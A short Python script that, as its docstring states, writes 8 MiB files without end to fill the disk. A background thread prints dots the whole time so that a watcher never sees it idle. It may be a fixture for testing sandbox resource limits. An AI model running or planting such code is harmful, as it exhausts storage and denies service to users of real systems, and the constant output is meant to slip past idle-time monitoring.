"""Fills the disk and says a word all the while, so that its watcher is never idle."""

import itertools
import os
import threading


def talk():
    while True:
        os.write(1, b".")


threading.Thread(target=talk, daemon=True).start()
for number in itertools.count():
    with open("hoard-%d" % number, "wb") as file:
        file.write(b"x" * 8 * 1024 * 1024)
